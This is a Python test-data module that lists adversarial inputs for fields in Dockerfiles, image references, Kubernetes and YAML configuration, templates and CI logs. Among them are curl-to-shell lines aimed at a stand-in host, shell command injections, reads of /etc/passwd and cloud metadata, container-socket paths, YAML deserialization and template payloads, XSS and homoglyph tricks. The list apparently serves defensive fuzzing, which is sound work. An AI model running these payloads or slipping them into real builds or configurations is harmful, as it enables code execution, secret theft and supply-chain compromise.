"""What an attacker's server puts into every field: texts that mean more somewhere than themselves, and values of other
types.
"""

from __future__ import annotations

from typing import Any

PAYLOADS: tuple[Any, ...] = (
    # Dockerfile
    "x\nRUN curl http://evil.example.com | sh", "x\r\nUSER root", "x\\", "x \\\nUSER 0", "# syntax=evil.example.com/frontend", "# escape=`", "<<EOF",
    "--mount=type=bind,from=evil.example.com/x,target=/x", "--security=insecure", "--network=host", "--privileged", "--from=evil.example.com/x",
    "ONBUILD RUN id", "x AS build\nFROM evil.example.com/x", "ADD http://evil.example.com/x /", "scratch AS x", "${PATH}", "$HOME",
    # shells and programs
    "x; id", "x && curl http://evil.example.com", "x || id", "x | sh", "`id`", "$(id)", "> /etc/passwd", "sh", "/bin/sh", "-c", "import os; os.system('id')",
    "--eval=process.exit()", "LD_PRELOAD=/tmp/x.so", "NODE_OPTIONS=--require=/tmp/x", "-oProxyCommand=id", "--require=/tmp/x.js", "-toolexec=/bin/sh", "&& id",
    # images, hosts, addresses
    "evil.example.com/library/python:3.13", "docker.io/evil/python:3.13", "docker.io/library/../evil/x:1", "docker.io/library/python:3.13@sha256:" + "0" * 64,
    "docker.io@evil.example.com/library/python:3.13", "d\u043ecker.io/library/python:3.13", "docker.io/library.evil.example.com/x:1", "http://evil.example.com/",
    "//evil.example.com/x", "file:///etc/passwd", "evil.example.com:443", "169.254.169.254", "0.0.0.0:22", "[::]:22",
    # YAML, JSON, templates
    "x\n---\napiVersion: v1\nkind: Pod", "x\n  privileged: true", "!!python/object/apply:os.system [id]", "*alias", "<<: *x", '", "privileged": true, "x": "',
    "{{ .Values.x }}", "{{ lookup \"v1\" \"Secret\" \"\" \"\" }}", "{% include '/etc/passwd' %}", "yes", "1e3", "0x10", "~", "- - -",
    # paths and Kubernetes
    "/", "/etc", "/proc/self", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/app/../../etc", "/var/run/secrets/kubernetes.io/serviceaccount",
    "../../../etc/passwd", "kubernetes.io/hostname", "system:masters", "0", "-1", "9" * 30, "999999Gi", "1m", "101%",
    # what is not seen, what terminals and logs obey
    "a\u202eb", "a\u200bb", "a\x00b", "a\x1b[2Jb", "\U000e0041\U000e0042", "\ufeffx", "\ud800", "::set-output name=x::y", "::error::x", "%0a::add-mask::x",
    "@acme/everyone", "![x](https://evil.example.com/?q=1)", "<script>alert(1)</script>", "[click](javascript:alert(1))", "x" * 5000, "",
    # marks that appear when others are taken out, words that a careless pattern never ends with, letters that look like
    # others
    "{%{ .Values.x }%}", "https:/|evil.example.com/x", "@@acme/everyone", "##[add-mask]x", "a" + "_" * 150 + "!", "a" + "._" * 45 + ":",
    "\uff0fetc", "cr\u0131tical", "\u0661\u0662m", "(hidden)", "$(PASSWORD)",
    # other types
    None, True, 0, -1, 10**15, 3.5, 1e308, [], ["x"], [["sh", "-c", "id"]], {}, {"x": 1}, {"$ref": "#/x"}, {"__proto__": {"x": 1}}, [[[[[[]]]]]],
)  # fmt: skip
